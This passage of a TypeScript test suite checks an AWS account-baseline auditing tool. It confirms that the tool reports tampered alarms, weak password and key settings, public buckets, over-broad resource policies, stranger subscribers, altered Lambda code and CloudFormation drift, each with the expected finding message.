      withAlarm({ TreatMissingData }),
      ['alarms fail: The alarm “Root user used” has a changed comparison.'],
    ],
  ),
  [
    'an alarm with the words of somebody else',
    withAlarm({ AlarmDescription: 'LOW: Nothing' }),
    [
      'alarms fail: The alarm “Root user used” has another description, from which notifications take severity and steps.',
    ],
  ],
  ...['AlarmActions', 'OKActions', 'InsufficientDataActions'].map(
    (actions): [string, Partial<Snapshot>, string[]] => [
      `an alarm that also has ${actions} of somebody else`,
      withAlarm({
        [actions]: [...(actions === 'AlarmActions' ? (alarm?.AlarmActions ?? []) : []), 'arn:other'],
      }),
      ['alarms fail: The alarm “Root user used” also triggers arn:other.'],
    ],
  ),
  [
    'passwords that lock people out',
    { passwordPolicy: { value: { ...policy, MaxPasswordAge: 90, HardExpiry: true } } },
    [
      'password-policy fail: Hard expiry is enabled: only an administrator can restore access for somebody whose password expired.',
    ],
  ],
  [
    'a trail that records reads and writes apart',
    {
      selectors: {
        value: {
          basic: [
            { ...ALL_EVENTS, ReadWriteType: 'WriteOnly' },
            { ...ALL_EVENTS, ReadWriteType: 'ReadOnly' },
          ],
          advanced: [],
        },
      },
    },
    [],
  ],
  [
    'a log group that can have no metric filters',
    { logGroup: { value: { ...valueOf(WELL.logGroup), logGroupClass: 'INFREQUENT_ACCESS' } } },
    [
      'log-group fail: The log group has the class INFREQUENT_ACCESS, which has no metric filters: no alarm can trigger.',
    ],
  ],
  [
    'advanced selectors that record all management events',
    {
      selectors: {
        value: {
          basic: [],
          advanced: [{ FieldSelectors: [{ Field: 'eventCategory', Equals: ['Management'] }] }],
        },
      },
    },
    [],
  ],
  [
    'advanced selectors that leave reads out',
    {
      selectors: {
        value: {
          basic: [],
          advanced: [
            {
              FieldSelectors: [
                { Field: 'eventCategory', Equals: ['Management'] },
                { Field: 'readOnly', Equals: ['false'] },
              ],
            },
          ],
        },
      },
    },
    ['trail-events fail: The trail’s event selectors leave out read events.'],
  ],
  [
    'an open log bucket',
    withBucket({
      PublicAccessBlockConfiguration: undefined,
      VersioningConfiguration: { Status: 'Suspended' },
    }),
    ['trail-bucket fail: The log bucket can be public and keeps no versions.'],
  ],
  ['a log bucket that is gone', withBucket(), ['trail-bucket fail: The log bucket was deleted.']],
  [
    'a key to be deleted',
    { key: keyThat({ state: 'PendingDeletion', rotates: false }) },
    ['key-rotation fail: The key is scheduled for deletion: log files and notifications would be lost.'],
  ],
  [
    'a disabled key',
    { key: keyThat({ state: 'Disabled', rotates: false }) },
    ['key-rotation fail: The key is in the state Disabled: log files and notifications cannot be encrypted.'],
  ],
  [
    'a key without rotation',
    { key: keyThat({ state: 'Enabled', rotates: false }) },
    ['key-rotation fail: The key is not rotated.'],
  ],
  [
    'events that are kept for a week',
    { logGroup: { value: { ...valueOf(WELL.logGroup), retentionInDays: 7 } } },
    ['log-group fail: Events are retained for 7 days instead of 365.'],
  ],
  [
    'a filter that is gone',
    { metricFilters: { value: otherFilters } },
    ['filters fail: The metric filter for “Root used” is missing or was changed.'],
  ],
  [
    'a filter whose pattern was changed',
    {
      metricFilters: {
        value: [{ ...filter, filterPattern: '{ $.eventName = "Nothing" }' }, ...otherFilters],
      },
    },
    ['filters fail: The metric filter for “Root used” is missing or was changed.'],
  ],
  [
    'an alarm that is gone',
    { alarms: { value: otherAlarms } },
    ['alarms fail: The alarm “Root user used” was deleted.'],
  ],
  [
    'an alarm without its action',
    withAlarm({ AlarmActions: [] }),
    ['alarms fail: The alarm “Root user used” does not publish to the alarm topic.'],
  ],
  [
    'an alarm with its actions switched off and a threshold out of reach',
    withAlarm({ ActionsEnabled: false, Threshold: 1e6 }),
    [
      'alarms fail: The alarm “Root user used” has its actions disabled and triggers at 1000000 instead of 1.',
    ],
  ],
  [
    'a subscription that waits for its confirmation',
    withSubscription({ SubscriptionArn: 'PendingConfirmation', endsBySignedCallsOnly: undefined }),
    [
      'listening manual: security@example.com has not confirmed the subscription and receives no notifications.',
    ],
  ],
  [
    'a subscription that was ended',
    { topic: { value: { arn: TOPIC, subscriptions: [] } } },
    [
      'listening fail: security@example.com is not subscribed: it was unsubscribed, or the subscription was never confirmed.',
    ],
  ],
  [
    'a subscription that SNS still lists as deleted',
    withSubscription({ SubscriptionArn: 'Deleted', endsBySignedCallsOnly: undefined }),
    [
      'listening fail: security@example.com is not subscribed: it was unsubscribed, or the subscription was never confirmed.',
    ],
  ],
  [
    'a subscription that a link ends',
    withSubscription({ endsBySignedCallsOnly: { value: false } }),
    ['unsubscribe manual: Anyone who opens the link in a message to security@example.com unsubscribes it.'],
  ],
  ...[
    ['topic', 'email'],
    ['alarmTopic', 'https'],
  ].map(([part = '', Protocol = '']): [string, Partial<Snapshot>, string[]] => [
    `a stranger that is subscribed to the ${part}`,
    { [part]: { value: withStranger(valueOf(WELL[part as 'topic' | 'alarmTopic']), { Protocol }) } },
    [`subscribers fail: mallory (${Protocol}) receives messages, and the configuration does not name it.`],
  ]),
  [
    'a stranger that is subscribed to the topic of chat channels',
    { otherTopics: { value: [withStranger({ arn: TOPIC, subscriptions: [] }, { Protocol: 'sqs' })] } },
    ['subscribers fail: mallory (sqs) receives messages, and the configuration does not name it.'],
  ],
  [
    'a stranger that has not confirmed, and gets nothing',
    {
      topic: {
        value: withStranger(valueOf(WELL.topic), { SubscriptionArn: 'PendingConfirmation' }),
      },
    },
    [],
  ],
  ...(
    [
      [
        'a topic policy with one more statement',
        (one: object[]) => [...one, { Effect: 'Allow', Principal: '*', Action: 'sns:*' }],
        'has Allow sns:*',
      ],
      ['a topic policy without its statement', () => [], 'lacks ServicesPublish'],
      [
        'a topic policy without its condition',
        ([one]: object[]) => [{ ...one, Condition: undefined }],
        'has another ServicesPublish',
      ],
    ] as const
  ).map(([shows, change, what]): [string, Partial<Snapshot>, string[]] => [
    shows,
    withTopicPolicy(change),
    [`resource-policies fail: The policy of ${TOPIC} differs from the template: it ${what}.`],
  ]),
  [
    'a function that others may invoke',
    withFunctionPolicy([PERMISSION, { ...PERMISSION, Sid: 'mine', Principal: '*' }]),
    [
      `resource-policies fail: The policy of ${FUNCTION.template.name} differs from the template: it has mine.`,
    ],
  ],
  [
    'a function that the alarm topic may not invoke',
    withFunctionPolicy([]),
    [
      `resource-policies fail: The policy of ${FUNCTION.template.name} differs from the template: it lacks Allow lambda:InvokeFunction.`,
    ],
  ],
  ['a function that only the alarm topic may invoke', withFunctionPolicy([PERMISSION]), []],
  [
    'a topic policy that nobody may read',
    { resourcePolicies: { value: [{ ...TOPIC_POLICY, actual: DENIED }] } },
    ['resource-policies unknown: some:Action is not allowed.'],
  ],
  [
    'a function whose code was replaced',
    withRunning({ files: { 'index.js': 'other' } }),
    ['function-code fail: Its code was changed.'],
  ],
  [
    'a function without its file',
    withRunning({ files: { 'index.mjs': 'well' } }),
    ['function-code fail: Its code was changed.'],
  ],
  [
    'a function with an SDK of somebody’s own',
    withRunning({ files: { 'index.js': 'well', 'node_modules/@aws-sdk/client-sns/index.js': 'mine' } }),
    ['function-code fail: Its code has more files: node_modules/@aws-sdk/client-sns/index.js.'],
  ],
  [
    'a function with the helper that CloudFormation adds',
    withRunning({ files: { 'index.js': 'well', 'cfn-response.js': 'helper' } }),
    [],
  ],
  [
    'a function with another handler, a layer and a variable more',
    withRunning({ handler: 'other.handler', layers: ['arn'], variables: ['NODE_OPTIONS'] }),
    ['function-code fail: Its handler was changed, and it has layers, and its variables were changed.'],
  ],
  [
    'a function whose code nobody may read',
    { functions: { value: [{ ...FUNCTION, state: DENIED }] } },
    [
      'function-code unknown: some:Action is not allowed.',
      'explainer unknown: some:Action is not allowed.',
      'functions unknown: some:Action is not allowed.',
    ],
  ],
  [
    'a rule that mutes an alarm',
    { muteRules: { value: [{ arn: MUTE_RULE, alarms: ['other', 'AccountBaseline-Alarms-Root'] }] } },
    ['mute-rules fail: A mute rule stops the actions of AccountBaseline-Alarms-Root, now or later.'],
  ],
  ['a rule that mutes other alarms', { muteRules: { value: [{ arn: MUTE_RULE, alarms: ['other'] }] } }, []],
  [
    'a topic of people that is gone',
    { topic: { value: undefined } },
    ['listening fail: The notification topic was deleted: nobody receives notifications.'],
  ],
  [
    'a function that is not subscribed',
    { alarmTopic: { value: { arn: TOPIC, subscriptions: [] } } },
    ['explainer fail: The function is not subscribed to the alarm topic.'],
  ],
  [
    'a function that may not run',
    withRunning({ reservedConcurrency: 0 }),
    [`functions fail: The function ${FUNCTION.template.name} cannot run: its reserved concurrency is 0.`],
  ],
  [
    'a function with reserved concurrency that nobody configured',
    withRunning({ reservedConcurrency: 1 }),
    [
      `functions fail: The reserved concurrency of the function ${FUNCTION.template.name} is 1 instead of not set.`,
    ],
  ],
  [
    'a function with another role and time limit',
    withRunning({ settings: { Role: 'arn:aws:iam::123456789012:role/mine', Timeout: 3 } }),
    [`functions fail: Role, Timeout of the function ${FUNCTION.template.name} differ from the template.`],
  ],
  [
    'a function whose failures go elsewhere',
    withActual('AWS::Lambda::EventInvokeConfig', { OnFailure: 'arn:mine', OnSuccess: 'arn:mine' }),
    [
      `functions fail: Settings for failed invocations of the function ${FUNCTION.template.name} differ from the template: OnFailure, OnSuccess.`,
    ],
  ],
  [
    'a function without its settings for failures',
    withActual('AWS::Lambda::EventInvokeConfig'),
    [`functions fail: The function ${FUNCTION.template.name} has lost its settings for failed invocations.`],
  ],
  [
    'settings for failures that nobody may read',
    withActual('AWS::Lambda::EventInvokeConfig', DENIED),
    ['functions unknown: some:Action is not allowed.'],
  ],
  [
    'a queue that invokes a function, and one that invokes another',
    {
      eventSources: {
        value: [
          { id: '1', functionArn: `${toExplainer?.Endpoint ?? ''}:live`, source: 'arn:queue' },
          { id: '2', functionArn: `${toExplainer?.Endpoint ?? ''}-other`, source: 'arn:queue' },
        ],
      },
    },
    [
      `functions fail: arn:queue invokes the function ${toExplainer?.Endpoint ?? ''}, and no stack has this event source mapping.`,
    ],
  ],
  [
    'sources of events that nobody may read',
    { eventSources: DENIED },
    ['functions unknown: some:Action is not allowed.'],
  ],
  ...(
    [
      ['a key of AWS', { KmsMasterKeyId: 'alias/aws/sns' }, 'another key'],
      ['no key', { KmsMasterKeyId: undefined }, 'no key'],
    ] as const
  ).map(([name, change, has]): [string, Partial<Snapshot>, string[]] => [
    `a topic with ${name}`,
    withActual('AWS::SNS::Topic', change),
    [
      `topic-keys fail: The topic ${TOPIC} is encrypted with ${has}. With a key of AWS, CloudWatch, EventBridge and AWS Budgets cannot publish.`,
    ],
  ]),
  ['a topic that is gone', withActual('AWS::SNS::Topic'), []],
  [
    'a topic that nobody may read',
    withActual('AWS::SNS::Topic', DENIED),
    ['topic-keys unknown: some:Action is not allowed.'],
  ],
  [
    'an event rule that is disabled',
    withActual('AWS::Events::Rule', { State: 'DISABLED' }),
    ['event-rules fail: The event rule AccountBaseline-Watchdog-OnTopics-1A2B3C is not enabled.'],
  ],
  [
    'an event rule that matches nothing and has no target',
    withActual('AWS::Events::Rule', { EventPattern: { source: ['x'] }, Targets: [] }),
    [
      'event-rules fail: EventPattern and Targets of the event rule AccountBaseline-Watchdog-OnTopics-1A2B3C differ from the template.',
    ],
  ],
  [
    'an event rule that is gone',
    withActual('AWS::Events::Rule'),
    ['event-rules fail: The event rule AccountBaseline-Watchdog-OnTopics-1A2B3C was deleted.'],
  ],
  [
    'an event rule that nobody may read',
    withActual('AWS::Events::Rule', DENIED),
    ['event-rules unknown: some:Action is not allowed.'],
  ],
  [
    'a second notification whose rule looks elsewhere',
    withActual('AWS::Notifications::EventRule', { Regions: ['eu-west-1'] }),
    [`root-notice-rules fail: Regions of the rule ${NOTICE_RULE} differs from the template.`],
  ],
  [
    'a second notification whose rule is gone',
    withActual('AWS::Notifications::EventRule'),
    [`root-notice-rules fail: The rule ${NOTICE_RULE} was deleted.`],
  ],
  [
    'a second notification that nobody may read',
    withActual('AWS::NotificationsContacts::EmailContact', DENIED),
    [
      'root-notice unknown: some:Action is not allowed.',
      'root-notice-rules unknown: some:Action is not allowed.',
    ],
  ],
  [
    'a recipient of the second notification who did not activate the address',
    withActual('AWS::NotificationsContacts::EmailContact', { Status: 'inactive' }),
    [
      'root-notice manual: security@example.com is inactive: AWS User Notifications sends nothing to it until someone activates it with the code of an e-mail from AWS. The code expires after 12 hours.',
    ],
  ],
  [
    'a recipient of the second notification whom a parameter of day zero names',
    withParameter('AWS::NotificationsContacts::EmailContact', 'EmailAddress', { Status: 'inactive' }),
    [
      'root-notice manual: security@example.com is inactive: AWS User Notifications sends nothing to it until someone activates it with the code of an e-mail from AWS. The code expires after 12 hours.',
    ],
  ],
  [
    'a recipient of the second notification whose status AWS does not tell',
    withActual('AWS::NotificationsContacts::EmailContact', { Status: undefined }),
    [
      'root-notice manual: security@example.com may not be activated: AWS User Notifications sends nothing to it until someone activates it with the code of an e-mail from AWS. The code expires after 12 hours.',
    ],
  ],
  [
    'the same, after somebody confirmed it',
    {
      ...withActual('AWS::NotificationsContacts::EmailContact', { Status: undefined }),
      confirmed: { 'root-notice': '2026-11-23' },
    },
    [],
  ],
  [
    'evidence that expires after a day',
    withBucket({ LifecycleConfiguration: { ExpirationInDays: 1, NoncurrentDays: 2 } }),
    [
      'trail-bucket fail: The log bucket deletes evidence after 1 day, not as configured after 2557 days and deletes old versions after 2 days, not as configured after 2557 days.',
    ],
  ],
  ['evidence that is kept for longer', withBucket({ LifecycleConfiguration: undefined }), []],
  [
    'a log bucket that logs its access elsewhere, with encryption by another key',
    withBucket({
      LoggingConfiguration: { DestinationBucketName: 'mine' },
      BucketEncryption: { SSEAlgorithm: 'aws:kms', KMSMasterKeyID: 'mine' },
    }),
    ['trail-bucket fail: The log bucket has other encryption and logs access differently.'],
  ],
  [
    'a log bucket that nobody may read',
    withActual('AWS::S3::Bucket', DENIED),
    ['trail-bucket unknown: some:Action is not allowed.'],
  ],
  [
    'resources that nobody may read',
    { resources: DENIED },
    [
      'trail-bucket unknown: some:Action is not allowed.',
      'event-rules unknown: some:Action is not allowed.',
      'dashboard unknown: some:Action is not allowed.',
      'topic-keys unknown: some:Action is not allowed.',
      'root-notice unknown: some:Action is not allowed.',
      'root-notice-rules unknown: some:Action is not allowed.',
      'budget unknown: some:Action is not allowed.',
      'identities unknown: some:Action is not allowed.',
      'functions unknown: some:Action is not allowed.',
    ],
  ],
  [
    'a log group that masks events, and copies them',
    {
      logGroup: {
        value: {
          ...valueOf(WELL.logGroup),
          dataProtectionStatus: 'ACTIVATED',
          inheritedProperties: ['ACCOUNT_DATA_PROTECTION'],
        },
      },
      subscriptionFilters: { value: ['copy'] },
    },
    [
      'log-group-readers fail: A data protection policy masks events, so that metric filters and notifications miss what it masks.',
      'log-group-readers manual: The data protection policy of the account masks events, so that metric filters and notifications can miss them.',
      'log-group-readers manual: The subscription filter copy copies events out of the log group.',
    ],
  ],
  [
    'a log group without the key',
    { logGroup: { value: { ...valueOf(WELL.logGroup), kmsKeyId: undefined } } },
    ['log-group-readers fail: New events are not encrypted with the key.'],
  ],
  [
    'subscription filters that nobody may read',
    { subscriptionFilters: DENIED },
    ['log-group-readers unknown: some:Action is not allowed.'],
  ],
  [
    'a function that is gone',
    { functions: { value: [{ ...FUNCTION, state: { value: undefined } }] } },
    [
      `function-code fail: The function ${FUNCTION.template.name} was deleted.`,
      'explainer fail: The function that explains alarms was deleted: nobody receives notifications.',
    ],
  ],
  [
    'new volumes without encryption in one Region',
    withRegional({ ebsEncryption: { value: false } }),
    ['ebs-encryption fail: New volumes are not encrypted by default in us-east-1.'],
  ],
  [
    'IMDSv1 in one Region',
    withRegional({ imds: { value: { tokens: 'no-preference', enforced: 'no-preference' } } }),
    ['imdsv2 fail: New instances allow IMDSv1 in us-east-1.'],
  ],
  [
    'a launch that may ask for IMDSv1',
    withRegional({ imds: { value: { tokens: 'required', enforced: 'no-preference' } } }),
    ['imdsv2 fail: New instances allow IMDSv1 in us-east-1.'],
  ],
  [
    'snapshots and images that can be public',
    withRegional({ snapshotBlock: { value: 'unblocked' }, imageBlock: { value: 'unblocked' } }),
    [
      'snapshot-public-block fail: Snapshots can be public in us-east-1.',
      'image-public-block fail: AMIs can be made public in us-east-1.',
    ],
  ],
  [
    'an open serial console',
    withRegional({ serialConsole: { value: true } }),
    ['serial-console fail: The EC2 serial console is allowed in us-east-1.'],
  ],
  [
    'no analyzer',
    withRegional({ analyzer: { value: undefined } }),
    [
      'access-analyzer fail: There is no active external access analyzer in us-east-1.',
      'exposure unknown: Without an external access analyzer, nobody knows what is open to others. In us-east-1.',
    ],
  ],
  [
    'a Region that can’t be read',
    withRegional({ ebsEncryption: { unknown: 'ec2.GetEbsEncryptionByDefault timed out' } }),
    ['ebs-encryption unknown: ec2.GetEbsEncryptionByDefault timed out. In us-east-1.'],
  ],
  [
    'buckets that can be public',
    { accountPublicAccessBlock: { value: false } },
    ['s3-account-block fail: Buckets of the account can be public.'],
  ],
  [
    'a missing contact',
    { contacts: { value: { BILLING: {}, OPERATIONS: {} } } },
    ['contacts manual: The account has no alternate contact for security.'],
  ],
  [
    'no alternate contact at all',
    { contacts: { value: {} } },
    ['contacts manual: The account has no alternate contact for security, billing, or operations.'],
  ],
  [
    'a primary contact without a number',
    { primaryContact: { value: ['FullName', 'AddressLine1'] } },
    ['primary-contact manual: The primary contact has no telephone number.'],
  ],
  ['a budget that is gone', withActual('AWS::Budgets::Budget'), ['budget fail: The budget was deleted.']],
  [
    'the name of the key on another key',
    { key: keyThat({ alias: { name: ALIAS, leadsTo: { value: 'arn:other' } } }) },
    [
      `key-alias fail: ${ALIAS} leads to arn:other. Who uses the key by this name, as runbooks tell people to, uses another key.`,
    ],
  ],
  [
    'the name of the key on no key',
    { key: keyThat({ alias: { name: ALIAS, leadsTo: { value: undefined } } }) },
    [`key-alias fail: ${ALIAS} was deleted, so that anyone who may create names can give it to another key.`],
  ],
  [
    'the name of the key on a key that nobody may read',
    { key: keyThat({ alias: { name: ALIAS, leadsTo: DENIED } }) },
    ['key-alias unknown: some:Action is not allowed.'],
  ],
  [
    'a key without a name',
    { key: keyThat({ alias: undefined }) },
    ['key-alias unknown: No stack gives the key a name.'],
  ],
  [
    'a dashboard that was deleted',
    withActual('AWS::CloudWatch::Dashboard'),
    ['dashboard fail: The dashboard AccountBaseline was deleted.'],
  ],
  [
    'a dashboard that says something else',
    withActual('AWS::CloudWatch::Dashboard', {
      DashboardBody: { widgets: [{ type: 'text', properties: { markdown: 'All is well' } }] },
    }),
    [
      'dashboard fail: The dashboard AccountBaseline differs from the template: what it shows or links to may be wrong.',
    ],
  ],
  [
    'a dashboard that was not read',
    { resources: { value: resources.filter(({ type }) => type !== 'AWS::CloudWatch::Dashboard') } },
    ['dashboard unknown: The dashboard is not deployed.'],
  ],
  [
    'a budget that was not read',
    { resources: { value: resources.filter(({ type }) => type !== 'AWS::Budgets::Budget') } },
    ['budget unknown: The budget was not read.'],
  ],
  [
    'a budget with another limit, and without recipients',
    withActual('AWS::Budgets::Budget', {
      BudgetLimit: { Amount: 1_000_000, Unit: 'USD' },
      Notifications: [],
    }),
    [
      'budget fail: BudgetLimit of the budget differs from the template.',
      'budget fail: The budget does not notify as deployed: thresholds or recipients differ from the template.',
    ],
  ],
  [
    'a budget with recipients of its own',
    withActual('AWS::Budgets::Budget', {
      Notifications: [
        {
          NotificationType: 'ACTUAL',
          ComparisonOperator: 'GREATER_THAN',
          Threshold: 80,
          ThresholdType: 'PERCENTAGE',
          Subscribers: [{ SubscriptionType: 'EMAIL', Address: 'mallory@example.com' }],
        },
      ],
    }),
    [
      'budget fail: The budget does not notify as deployed: thresholds or recipients differ from the template.',
    ],
  ],
  [
    'no sign of billing access',
    { billingAccessSet: { value: undefined } },
    [
      'billing-access manual: No API shows whether IAM access to Billing is activated, and CloudTrail recorded no change in the last 90 days.',
    ],
  ],
  [
    'billing access that a person has confirmed',
    {
      billingAccessSet: { value: undefined },
      confirmed: { ...WELL.confirmed, 'billing-access': '2026-11-20' },
    },
    [],
  ],
  [
    'a stack that failed',
    withStack({ StackStatus: 'UPDATE_ROLLBACK_FAILED' }),
    ['stack fail: The stack AccountBaseline-Alarms is in UPDATE_ROLLBACK_FAILED.'],
  ],
  [
    'a stack that is being updated',
    withStack({ StackStatus: 'UPDATE_IN_PROGRESS' }),
    [
      'stack unknown: The stack AccountBaseline-Alarms is in UPDATE_IN_PROGRESS; run this again when it is done.',
    ],
  ],
  [
    'a stack that can be deleted by accident',
    withStack({ EnableTerminationProtection: false }),
    ['termination-protection fail: Termination protection of AccountBaseline-Alarms is disabled.'],
  ],
  [
    'a stack that has drifted',
    withStack({ DriftInformation: { StackDriftStatus: 'DRIFTED', LastCheckTimestamp: NOW } }),
    ['drift fail: CloudFormation found drift of AccountBaseline-Alarms on 2026-11-24 12:00 UTC.'],
  ],
  [
    'a comparison that is too old to count',
    withStack({
      DriftInformation: {
        StackDriftStatus: 'IN_SYNC',
        LastCheckTimestamp: new Date('2026-11-14T12:00:00Z'),
      },
    }),
    [
      'drift unknown: CloudFormation found no drift of AccountBaseline-Alarms on 2026-11-14 12:00 UTC, 10 days ago; that is too long ago, but the other checks cover what matters.',
    ],
  ],
  [
    'a stack that was never compared',
    withStack({ DriftInformation: { StackDriftStatus: 'NOT_CHECKED' } }),
    [
      'drift unknown: Drift detection has not run for AccountBaseline-Alarms; the other checks cover what matters.',
    ],
  ],
  [
    'stacks that were never compared, in one line',
    {
      suite: {
        value: suite.map((one, index) => ({
          ...one,
          stack:
            index < 3 ? { ...one.stack, DriftInformation: { StackDriftStatus: 'NOT_CHECKED' } } : one.stack,
        })),
      },
    },
    ['drift unknown: Drift detection has not run for 3 stacks; the other checks cover what matters.'],
  ],
  [
    'a comparison that left resources out',
    {
      driftDetection: {
        Alarms: { value: { isComplete: false, reason: 'Failed to detect drift on resource [Key].' } },
      },
    },
    [
      'drift unknown: CloudFormation could not compare every resource of AccountBaseline-Alarms: Failed to detect drift on resource [Key].',
    ],
  ],
  [
    'a comparison that may not be asked for, though an older one saw nothing',
    { driftDetection: { Alarms: { unknown: 'cloudformation:DetectStackDrift is not allowed' } } },
    ['drift unknown: cloudformation:DetectStackDrift is not allowed.'],
  ],
  [
    'a stack that is not deployed',
    { suite: { value: suite.filter(({ kind }) => kind !== 'Settings') } },
    [`stack fail: There is no stack AccountBaseline-Settings in ${REGION}.`],
  ],
  [
    'a stack that the configuration no longer asks for',
    { suite: { value: [...suite, deployedStack('Detectors')] } },
    [
      'stack fail: The stack AccountBaseline-Detectors is deployed, but the configuration no longer includes it.',
    ],
  ],
  [
    'a stack in another Region that is not deployed',
    { suite: { value: suite.filter(({ kind }) => kind !== 'RootNotice') } },
    ['stack fail: There is no stack AccountBaseline-RootNotice in us-east-1.'],
  ],
  [
    'a stack that reads another one which was created again since',
    withStack({ CreationTime: NOW }, 'Audit'),
    [
      'references fail: AccountBaseline-Audit was created again after AccountBaseline-Alarms was deployed: AccountBaseline-Alarms still uses the old outputs.',
    ],
  ],
  [
    'stacks of which nobody knows when they were deployed',
    withStack({ CreationTime: undefined }, 'Audit'),
    [
      'references unknown: CloudFormation did not say when AccountBaseline-Alarms and AccountBaseline-Audit were deployed.',
    ],
  ],
];

eachOf(ROWS, ([what]) => what)('each fault is found, and nothing else', ([, change, expected]) => {
  expect(troubles(change)).toEqual(expected);
});

test('a stack that was updated since reads what is new', () => {
  const created = withStack({ CreationTime: ago(1) }, 'Audit').suite;
  const updated = withStack({ CreationTime: ago(9), LastUpdatedTime: NOW }).suite;
  const both = suite.map(({ kind }) =>
    [kind === 'Audit' ? created : updated].flatMap((part) =>
      part && 'value' in part ? part.value.filter((one) => one.kind === kind) : [],
    ),
  );
  expect(troubles({ suite: { value: both.flat() } })).toEqual([]);
});

test('a stack that reads one which is gone is told of both', () => {
  const found = troubles({ suite: { value: suite.filter(({ kind }) => kind !== 'Audit') } });
  expect(found).toEqual(
    expect.arrayContaining([
      `stack fail: There is no stack AccountBaseline-Audit in ${REGION}.`,
      'references fail: AccountBaseline-Alarms uses outputs of AccountBaseline-Audit, which is not deployed.',
    ]),
  );
});

const CONTACT = { name: 'Ann Lee', title: 'CISO', email: 'ann@example.com', phone: '+1 555 0100' };
const expiring = { ...CONFIG, passwordPolicy: { ...CONFIG.passwordPolicy, expireAfterDays: 90 } };
const withExpiry = (MaxPasswordAge: number | undefined): Partial<Snapshot> => ({
  passwordPolicy: { value: { ...policy, MaxPasswordAge } },
});
const adopting = {
  ...CONFIG,
  auditTrail: { ...CONFIG.auditTrail, existingLogGroup: valueOf(WELL.logGroup)?.logGroupName },
};
/** A resource that the constructs mark. */
const marked = (part: string) => ({
  [part]: { Type: 'AWS::Any::Type', Metadata: { AccountBaseline: { part } } },
});

eachOf<[string, BaselineConfig, Partial<Snapshot>, string[]]>(
  [
    ...(
      [
        [undefined, 'no expiry'],
        [0, 'no expiry'],
        [91, 'expiry after 91 days'],
        [90, undefined],
        [30, undefined],
      ] as const
    ).map(([days, instead]): [string, BaselineConfig, Partial<Snapshot>, string[]] => [
      `passwords that expire after ${days} days`,
      expiring,
      withExpiry(days),
      instead === undefined
        ? []
        : [
            `password-policy fail: The password policy is weaker than the configuration: ${instead} instead of 90 days.`,
          ],
    ]),
    [
      'a tool that is not subscribed',
      {
        ...CONFIG,
        notifications: { ...CONFIG.notifications, httpsEndpoints: ['https://tool.example.com/'] },
      },
      {},
      [
        'listening fail: https://tool.example.com/ is not subscribed: it was unsubscribed, or the subscription was never confirmed.',
      ],
    ],
    [
      'a log group of its own that is kept for a week',
      adopting,
      {
        logGroup: { value: { ...valueOf(WELL.logGroup), retentionInDays: 7 } },
        resources: { value: resources.filter(({ resource }) => resource !== BUCKET) },
        metricFilters: {
          value: valueOf(WELL.metricFilters).map((one) => ({
            ...one,
            // Without a bucket of its own there is none to watch.
            filterPattern: one.filterPattern?.replace(BUCKET, '-'),
          })),
        },
      },
      [],
    ],
    [
      'a contact that was changed',
      { ...CONFIG, accountSettings: { ...CONFIG.accountSettings, contacts: { security: CONTACT } } },
      {},
      ['contacts fail: The security contact differs from the configuration.'],
    ],
    [
      'a contact as it is configured',
      { ...CONFIG, accountSettings: { ...CONFIG.accountSettings, contacts: { security: CONTACT } } },
      {
        contacts: {
          value: {
            ...valueOf(WELL.contacts),
            SECURITY: {
              AlternateContactType: 'SECURITY',
              Name: CONTACT.name,
              Title: CONTACT.title,
              EmailAddress: CONTACT.email,
              PhoneNumber: CONTACT.phone,
            },
          },
        },
      },
      [],
    ],
    [
      'cost anomalies that nobody hears of',
      { ...CONFIG, billing: { ...CONFIG.billing, costAnomalyDetection: true } },
      {},
      ['anomaly-detection unknown: No stack of the baseline has its anomaly subscription.'],
    ],
    [
      'cost anomalies that somebody hears of',
      { ...CONFIG, billing: { ...CONFIG.billing, costAnomalyDetection: true } },
      withResource('Spend', 'anomaly-subscription', 'arn:anomalies', marked('anomaly-subscription')),
      [],
    ],
  ],
  ([what]) => what,
)('with another configuration, each fault is found, and nothing else', ([, config, change, expected]) => {
  expect(troubles(change, config)).toEqual(expected);
});

test('the policies of each group are compared with its own', () => {
  const statement = { Effect: 'Allow', Action: 'ce:Get*', Resource: '*' };
  const change = (document: object): Partial<Snapshot> => ({
    ...withResource('Access', 'BillingAccessViewers', 'BillingViewers', {
      Viewers: {
        Type: 'AWS::IAM::Policy',
        Properties: {
          Groups: [{ Ref: 'BillingAccessViewers' }],
          PolicyName: 'Viewers',
          PolicyDocument: { Version: '2012-10-17', Statement: [statement] },
        },
      },
    }),
    people: {
      value: {
        ...people,
        groups: [
          ...people.groups,
          {
            GroupName: 'BillingViewers',
            GroupPolicyList: [{ PolicyName: 'Viewers', PolicyDocument: encoded(document) }],
          },
        ],
      },
    },
  });
  expect(troubles(change(statement))).toEqual([]);
  expect(troubles(change({ ...statement, Action: '*' }))).toEqual([
    'group-policies fail: Viewers of BillingViewers was deleted or changed.',
  ]);
});

test('what passes says what was seen', () => {
  const seen = Object.fromEntries(findings({}).map(({ check, detail }) => [check, detail]));
  expect(seen).toMatchObject({
    'administrators-group': 'The group Administrators has all its policies.',
    'group-policies': 'The 2 inline policies are unmodified.',
    administrators: 'Administrators has alice and bob.',
    'own-permissions': 'No user has a policy of their own.',
    'access-keys': 'No user has an active access key.',
    'password-policy': 'Passwords need at least 15 characters.',
    'log-group': 'Events are retained for 365 days.',
    'ebs-encryption': 'Encrypted by default in 2 Regions.',
  });
  expect(findings({}).flatMap(({ check, detail }) => (check === 'user-mfa' ? [detail] : []))).toEqual([
    'alice has 1 MFA device.',
    'bob has 2 MFA devices.',
  ]);
  const forEver = findings({
    logGroup: { value: { ...valueOf(WELL.logGroup), retentionInDays: undefined } },
  });
  expect(forEver.find(({ check }) => check === 'log-group')?.detail).toBe('Events are retained forever.');
});

test('a changed contact is not told to be deployed again, which would set nothing', () => {
  const config = {
    ...CONFIG,
    accountSettings: { ...CONFIG.accountSettings, contacts: { security: CONTACT } },
  };
  const { remedy } =
    findings({}, config).find(({ check, status }) => check === 'contacts' && status === 'fail') ?? {};
  expect(remedy?.text).toBe(
    'Find out who changed it, then set it on the account page. A deployment without changes does not reapply it.',
  );
  expect(remedy?.link).toMatch(/billing\/home#\/account$/);
});

test('billing access, which no API shows, is confirmed with a command', () => {
  const [found] = findings({ billingAccessSet: { value: undefined } }).filter(
    ({ check }) => check === 'billing-access',
  );
  expect(found?.remedy?.command).toBe('npx aws-account-baseline confirm billing-access');
});

describe('a setting of many Regions', () => {
  const settings = WELL.regional['us-east-1'] as RegionalSettings;
  const off: RegionalSettings = { ...settings, ebsEncryption: { value: false } };
  const unread = (unknown: string): RegionalSettings => ({ ...settings, ebsEncryption: { unknown } });
  const inRegions = (regional: Record<string, RegionalSettings>) =>
    findings({ regional })
